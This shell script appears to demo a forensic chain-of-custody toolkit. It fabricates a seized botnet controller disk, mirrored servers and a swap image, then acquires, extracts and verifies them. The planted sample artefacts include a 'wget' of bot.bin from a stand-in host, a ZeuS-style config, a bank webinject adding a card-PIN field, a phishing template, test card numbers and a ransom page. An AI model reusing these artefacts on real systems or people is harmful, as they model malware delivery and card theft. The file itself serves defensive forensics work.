#!/bin/sh
# demo.sh BUILD_DIR - custody on a built-in sample case.
#
# Makes a small "seized controller disk" (an ext4 image built with
# mke2fs -d from files such a server holds: a panel config, a recipient
# list, a spam template, an access log, a ZeuS-style builder config, its
# webinjects and its encrypted twin config.bin, the ZeuS panel's config and
# its database dump, a Mirai string table, an SMTP relay list), then opens
# a case (and a second server: two mirrored disks, md RAID1, LVM2 on the
# mirror, ext4 in its volume, extracted together; and a third: a swap
# partition with no file system, carved end to end), registers the
# seized item, acquires the disk, extracts its inventory and target lists
# (with the sample YARA rules in demo/rules),
# registers the seizure paperwork, records a hand-over and verifies the case, everything signed by a sample examiner
# key made with custody-keygen.  Everything lands in BUILD_DIR/demo/.
set -eu
build=${1:-build}
top=$(cd "$(dirname "$0")/.." && pwd)
PATH="$(cd "$build/bin" && pwd):$PATH"
export PATH
out="$(cd "$build" && pwd)/demo"
rm -rf "$out"
mkdir -p "$out/disk/var/www/panel" "$out/disk/var/log/nginx" "$out/disk/root" \
	"$out/disk/root/builder"
say() { printf '\n== %s\n' "$*"; }

say "making a sample seized controller disk"
cat >"$out/disk/var/www/panel/config.php" <<'PHP'
<?php
// bot panel configuration
$db_host = 'localhost';
$db_user = 'panel';
$db_pass = 'x7Qp!2rT';
$cnc_servers = array('update.example.net', 'cdn-check.example.org', '203.0.113.17');
$bot_interval = 300;
PHP
cat >"$out/disk/var/www/panel/recipients.txt" <<'TXT'
alice@example.com
bob.smith@example.org
carol@example.net
TXT
cat >"$out/disk/var/www/panel/template.eml" <<'EML'
Subject: Your parcel could not be delivered
From: "Delivery Service" <noreply@example.com>

Open the attached form to reschedule: http://parcel.example.net/track?id={ID}
EML
cat >"$out/disk/var/log/nginx/access.log" <<'LOG'
198.51.100.23 - - [15/Mar/2011:23:59:01 +0000] "POST /gate.php HTTP/1.1" 200 112
198.51.100.45 - - [15/Mar/2011:23:59:07 +0000] "POST /gate.php HTTP/1.1" 200 112
LOG
printf 'wget http://203.0.113.17/bot.bin\n' >"$out/disk/root/.bash_history"
# the ZeuS-style builder's configuration and webinjects the operators kept
cat >"$out/disk/root/builder/config.txt" <<'CFG'
;Version: 1.3.2.1
entry "StaticConfig"
  botnet "b107"
  timer_config 60 1
  url_config "http://update.example.net/cfg/config.bin"
  encryption_key "sample key, not a real one"
end
entry "DynamicConfig"
  url_loader "http://update.example.net/bot.exe"
  url_server "http://cdn-check.example.org/gate.php"
  entry "WebFilters"
    "!*.microsoft.com/*"
    "https://online.bank.example/*"
  end
end
CFG
cat >"$out/disk/root/builder/webinjects.txt" <<'WI'
set_url https://online.bank.example/login* GP
data_before
<form id="login">
data_end
data_inject
<input name="card_pin" type="password">
data_end
data_after
data_end
WI
# its encrypted twin, config.bin, under the builder's encryption_key
mkdir -p "$out/disk/var/www/cp/system" "$out/disk/root/mirai" "$out/disk/root/db"
python3 "$top/tests/fixtures/zeus-configbin.py" "sample key, not a real one" \
	"$out/disk/var/www/cp/config.bin" http://cdn-check.example.org/gate.php \
	http://update.example.net/bot.exe
# the ZeuS panel's own configuration, and its database dumped by the operators
cat >"$out/disk/var/www/cp/system/config.php" <<'PHP'
<?php
$config['mysql_host'] = '127.0.0.1';
$config['mysql_user'] = 'cp';
$config['mysql_pass'] = 'sample-db-pass';
$config['mysql_db'] = 'cpdb';
$config['botnet_cryptkey'] = 'sample key, not a real one';
PHP
cat >"$out/disk/root/db/cpdb.sql" <<'SQL'
-- MySQL dump 10.13  Distrib 5.0.51a, for debian-linux-gnu (i486)
CREATE TABLE `botnet_list` (
  `bot_id` varchar(100) NOT NULL,
  `country` varchar(2) NOT NULL,
  `ipv4` int(10) unsigned NOT NULL,
  `rtime_first` int(10) unsigned NOT NULL,
  `rtime_last` int(10) unsigned NOT NULL
);
INSERT INTO `botnet_list` VALUES ('PC-SAMPLE_01','US',3325256709,1300000000,1300300000),('PC-SAMPLE_02','DE',3325256710,1300000100,1300300100);
SQL
gzip -n "$out/disk/root/db/cpdb.sql"
# a Mirai source tree's string table (C&C and report hosts XOR-encoded)
python3 "$top/tests/fixtures/botfamilies.py" "$out/fam"
cp "$out/fam/mirai/table.c" "$out/disk/root/mirai/table.c"
cp "$out/fam/spam/smtp-list.txt" "$out/disk/var/www/panel/smtp-list.txt"
rm -rf "$out/fam"
# the installer the operators kept, and a target list they deleted
(cd "$out/disk/var/www" && tar -czf panel-install.tar.gz panel)
printf 'dave@example.com\nerin@example.org\n' >"$out/disk/var/www/old-list.txt"
# what a deep carve opens: a deferred spam run in the mail queue whose
# base64 attachment holds stolen card data, a Windows bot's proxy list in
# UTF-16, the panel's report blob with a gzip stream inside, and the ransom
# page with its wallet and its onion mirror
mkdir -p "$out/disk/var/spool/postfix/deferred/4" "$out/disk/var/www/cp/reports"
cards=$(printf '4111 1111 1111 1111|12/25|PC-SAMPLE_01\n5555555555554444|01/27|PC-SAMPLE_02\n' | base64)
cat >"$out/disk/var/spool/postfix/deferred/4/4F2A91C" <<EML
From: "Billing" <billing@example.com>
To: frank@example.net
Subject: invoice
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain

See the attached invoice.
--b1
Content-Type: text/plain; name="dump.txt"
Content-Transfer-Encoding: base64

$cards
--b1--
EML
printf 'socks5 198.51.100.88:1080\r\nsmtp mx.relay.example.net:25\r\n' |
	iconv -t UTF-16LE >"$out/disk/root/builder/proxies.dat"
{ printf 'RPT1'; printf 'grace@example.org\nheidi@example.com\n' | gzip -n; } \
	>"$out/disk/var/www/cp/reports/r0001.dat"
onion=$(python3 -c 'import base64, hashlib
pub = hashlib.sha256(b"custody sample onion").digest()
sum = hashlib.sha3_256(b".onion checksum" + pub + b"\x03").digest()[:2]
print(base64.b32encode(pub + sum + b"\x03").decode().lower())')
cat >"$out/disk/var/www/panel/ransom.html" <<HTML
<p>Send 0.5 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa, then visit
http://$onion.onion/pay or call +1 202 555 0143.</p>
HTML
mke2fs -q -F -t ext4 -L controller -d "$out/disk" "$out/controller-disk.img" 16M
debugfs -w -R "rm /var/www/old-list.txt" "$out/controller-disk.img" >/dev/null 2>&1
echo "$out/controller-disk.img"

say "custody-keygen: the examiner's key and certificate (a sample passphrase)"
# A real examiner types the passphrase; the demo gives it in the
# environment and keeps the key and its configuration inside the demo.
CUSTODY_PASSPHRASE="sample passphrase, not for real cases"
CUSTODY_CONFIG="$out/examiner/config"
export CUSTODY_PASSPHRASE CUSTODY_CONFIG
custody-keygen --name "Jane Examiner" --agency "Digital Crimes Unit" \
	--email jane.examiner@example.org --out "$out/examiner"

say "custody-case init: a new case folder"
custody-case init "$out/case" --number 2011-RX-001 --title "Operation b107 (sample)" \
	--examiner "Jane Examiner" --agency "Digital Crimes Unit" \
	--authority "Sample court order 11-CV-00466"

say "custody-case add-item: the seized disk"
custody-case add-item --case "$out/case" --item E001 --exhibit 1 \
	--description "Controller server disk, hosting provider rack 12" \
	--make "Western Digital" --model WD5000AAKS --serial WD-SAMPLE-0001 \
	--seized-at "Hosting provider, Kansas City" --seized-on 2011-03-16T14:05:00Z \
	--seized-by "US Marshal" --seal S-0042

say "custody-image: acquire the seized disk (the image file stands in for it)"
custody-image --case "$out/case" --item E001 --note "sample acquisition" \
	"$out/controller-disk.img"

say "custody-hash: register the seizure paperwork"
printf 'Seizure form: one server, rack 12, seal S-0042\n' >"$out/seizure-form.txt"
custody-hash --case "$out/case" --item E001 --note "seizure form" "$out/seizure-form.txt"

say "custody-log add: the hand-over to the evidence room"
custody-log add --case "$out/case" --action transferred --item E001 \
	--from "Jane Examiner" --to "Evidence custodian" --location "Evidence room, locker 12"

say "custody-extract: every file of the acquired disk, hashed, typed, scanned and carved"
custody-extract --case "$out/case" --acq E001-A1 --rules "$top/demo/rules"
x=$out/case/extractions/E001-X1
echo "emails (the deleted list's too):"
cat "$x/targets/emails.csv"
echo "URLs:"
cat "$x/targets/urls.csv"
echo "bot configurations (botconfigs.jsonl):"
"$top/demo/botconfigs.py" "$x/botconfigs.jsonl"
echo "C&C endpoints (targets/c2.csv):"
cat "$x/targets/c2.csv"
echo "webinject targets (targets/webinjects.csv):"
cut -d, -f1-4 "$x/targets/webinjects.csv"
echo "victims from the panel's database (targets/victims.csv):"
cut -d, -f1-3 "$x/targets/victims.csv"
echo "SMTP relays (targets/smtp-relays.csv):"
cut -d, -f1-2 "$x/targets/smtp-relays.csv"
echo "decoded where they lay (targets/bulk_extractor/: the image offset of the stream, the"
echo "decoding and the offset in what it decoded to; inventory.dfxml's byte runs name the file):"
awk -F '\t' '$1 !~ /-(MEMBER|FILE)-/ && $1 ~ /-[A-Z0-9]+-[0-9]+$/ { print "  " $1 "\t" $2 }' \
	"$x/targets/bulk_extractor/email.txt" "$x/targets/bulk_extractor/ccn.txt" \
	"$x/targets/bulk_extractor/hostport.txt"
echo "card numbers, wallets, onions, phones and host:ports (targets/*.csv):"
for f in ccns bitcoin onions phones hostports; do
	sed 1d "$x/targets/$f.csv" | cut -d, -f1,3 | sed "s/^/  $f: /"
done
echo "YARA hits and copies of files of interest:"
grep '"rules"' "$x/inventory.jsonl" | sed 's/.*"path":"\([^"]*\)".*"rule":"\([^"]*\)".*/  \1: \2/'
(cd "$x" && find objects -type f | sort | sed 's/^/  /')

say "a second server: two disks mirrored (md RAID1), LVM2 on the mirror"
# the panel's volume: ext4 in an LVM2 logical volume, on an md RAID1
# pair; each disk is an item of its own, acquired, and the two are
# extracted together so that the mirror and the volume group are rebuilt
mkdir -p "$out/server2/var/www/gate" "$out/layers"
cat >"$out/server2/var/www/gate/settings.php" <<'PHP'
<?php
define('DB_HOST', 'localhost');
define('DB_USER', 'gate');
define('DB_PASS', 'sample-gate-pass');
$cnc_servers = array('backup-c2.example.net', '198.51.100.77:8443');
PHP
mke2fs -q -F -t ext4 -L panel -d "$out/server2" "$out/layers/panel.ext4" 8M \
	>/dev/null
python3 "$top/tests/fixtures/lvm-image.py" pv "$out/layers/pv.img" vgweb \
	panel="$out/layers/panel.ext4"
python3 "$top/tests/fixtures/mdraid.py" --level 1 --disks 2 --metadata 1.2 \
	--data-kib $(($(stat -c %s "$out/layers/pv.img") / 1024)) \
	--volume "$out/layers/pv.img" --name web01:0 "$out/layers"
for i in 0 1; do
	custody-case add-item --case "$out/case" --item E00$((i + 2)) \
		--exhibit $((i + 2)) --description "Web server disk $((i + 1)) (mirrored)" \
		--seized-at "Hosting provider, Kansas City" --seized-on 2011-03-16T15:20:00Z \
		--seized-by "US Marshal" >/dev/null
	custody-image --case "$out/case" --item E00$((i + 2)) --quiet \
		--note "web server disk $((i + 1))" "$out/layers/m$i.img"
done
custody-extract --case "$out/case" --acq E002-A1 --acq E003-A1 --quiet
x2=$out/case/extractions/E002-X1
echo "volumes found (extraction.json, walk.partitions):"
python3 -c 'import json, sys
for p in json.load(open(sys.argv[1]))["walk"]["partitions"]:
    what = p.get("fs_type") or p.get("layer", "")
    if p.get("layer") == "md":
        what = "md %s, %s, degraded %s" % (p["md"]["level"], p["md"]["uuid"],
                                           p["md"]["degraded"])
    if "logical_volume" in p:
        what += " LVM2 %s/%s" % (p["volume_group"]["name"],
                                 p["logical_volume"]["name"])
    print("  %-28s %s" % (p["name"], what))' "$x2/extraction.json"
echo "bot configurations on it:"
"$top/demo/botconfigs.py" "$x2/botconfigs.jsonl"

say "a swap partition with no file system: carved end to end"
# the controller's swap: page-sized scraps of the panel's memory, a
# compressed one among them; nothing in it opens as a file system
python3 -c 'import gzip, sys
page = lambda b: b + bytes(4096 - len(b) % 4096)
out = page(b"SWAPSPACE2") + page(b"POST /gate.php bot=PC-SAMPLE_03 from ivan@example.net")
out += page(b"\x00" * 100 + gzip.compress(b"queue: judy@example.org mx.relay.example.net:25", mtime=0))
sys.stdout.buffer.write(out + bytes(1 << 20))' >"$out/swap.img"
custody-case add-item --case "$out/case" --item E004 --exhibit 4 \
	--description "Controller swap partition" --seized-on 2011-03-16T14:05:00Z \
	--seized-by "US Marshal" >/dev/null
custody-image --case "$out/case" --item E004 --quiet --note "swap partition" "$out/swap.img"
custody-extract --case "$out/case" --acq E004-A1 --quiet
x4=$out/case/extractions/E004-X1
echo "what the swap held (targets/emails.csv, hostports.csv):"
for f in emails hostports; do
	sed 1d "$x4/targets/$f.csv" | cut -d, -f1,3,4 | sed 's/^/  /'
done

say "custody-log show: the timeline"
custody-log show --case "$out/case"

say "custody-verify: check the whole case"
custody-verify --case "$out/case"

say "stock tools agree"
unit=$(ls -d "$out"/case/acquisitions/E001-A*)
(cd "$unit" && sha256sum -c SHA256SUMS)
md5sum "$out/controller-disk.img"
openssl cms -verify -binary -inform DER -in "$unit/SHA256SUMS.p7s" \
	-content "$unit/SHA256SUMS" -CAfile "$out/examiner/examiner.pem" \
	-purpose any -out /dev/null

cat <<EOF

The sample case is in $out/case
Look at:
  case.json, items/E001/item.json      the case and the seized item
  custody.log                          the hash-linked custody log (one JSON event per line)
  custody.checkpoint (+ .p7s)          the log's Merkle root, signed by the examiner
  checkpoints/                         every checkpoint signed so far, kept: none is ever lost
  examiners/                           the examiner's certificate
  acquisitions/E001-A1/                the acquisition: image.raw, acquisition.json, blocks.sha256,
                                       errors.map, SHA256SUMS, manifest.hashdeep, SHA256SUMS.p7s
  artifacts/E001-H1/                   the registered paperwork
  extractions/E001-X1/                 inventory.jsonl (every file, deleted ones too, archive members,
                                       with MD5, SHA-256, type and YARA hits), inventory.dfxml,
                                       targets/ (emails, domains, URLs, IPs, card numbers, wallets,
                                       onions, phones, MACs, host:ports carved, unallocated space
                                       and gzip, base64, UTF-16 streams included; bulk_extractor/
                                       feature files), botconfigs.jsonl and objects/ (copies of
                                       files of interest)
  extractions/E004-X1/                 the swap partition, no file system: carved end to end
Check it without custody: docs/verifying-without-custody.md, with
  EXAMINER_CERT=$out/examiner/examiner.pem
Try: custody-case status --case $out/case
     change a byte of acquisitions/E001-A1/image.raw and run
     custody-verify --case $out/case again: it names the damaged block
EOF
